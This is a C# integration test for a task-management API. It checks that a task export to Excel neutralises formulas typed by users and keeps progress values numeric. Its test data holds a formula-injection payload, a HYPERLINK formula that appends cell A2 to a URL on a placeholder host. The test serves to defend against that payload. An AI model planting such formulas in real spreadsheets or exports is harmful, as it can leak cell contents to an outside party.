using Dakla06.Contracts.Http.Directives;
using Dakla06.IntegrationTests.Support;
using MiniExcelLibs;

namespace Dakla06.IntegrationTests.Directives;

/// <summary>The task export neutralises spreadsheet formulas in what users typed, and keeps its numbers numbers.</summary>
public sealed class ExportFormulaTests(DirectivesFixture fixture) : IClassFixture<DirectivesFixture>
{
    private const string Formula = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";

    [Fact]
    public async Task A_task_title_that_is_a_formula_is_exported_as_text()
    {
        var cancel = TestContext.Current.CancellationToken;
        var officer = new DirectivesClient(await SignedIn.ClientAsync(fixture.Api, fixture.Identity, "bmt.officer"));
        var assignee = new DirectivesClient(await SignedIn.ClientAsync(fixture.Api, fixture.Identity, "tanloi.officer"));
        var document = await officer.CreateDocumentAsync(
            new CreateDocumentRequest("plan", "7/KH-UBND", "643", new DateOnly(2026, 3, 1), "Kế hoạch", "Tóm tắt"), Guid.NewGuid().ToString(), cancel);
        var created = await officer.CreateTasksAsync(document.Id,
            new CreateTasksRequest(Formula, "Mô tả", "Báo cáo", DateOnly.FromDateTime(DateTime.Today).AddDays(30), "high", Units: ["24136"]),
            Guid.NewGuid().ToString(), cancel);
        await assignee.StartTaskAsync(created.TaskIds.Single(), cancel);
        await assignee.ReportTaskAsync(created.TaskIds.Single(), new ReportTaskRequest("Đang triển khai", 40, null, false), cancel);

        var file = await officer.ExportTasksAsync(new TaskQuery(Mine: "assignedByMe"), cancel);

        using var stream = new MemoryStream(file.Content);
        var row = stream.Query(useHeaderRow: true).Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'" + Formula, row["Nhiệm vụ"]);
        Assert.Equal(40d, Convert.ToDouble(row["Tiến độ (%)"], System.Globalization.CultureInfo.InvariantCulture));
    }
}
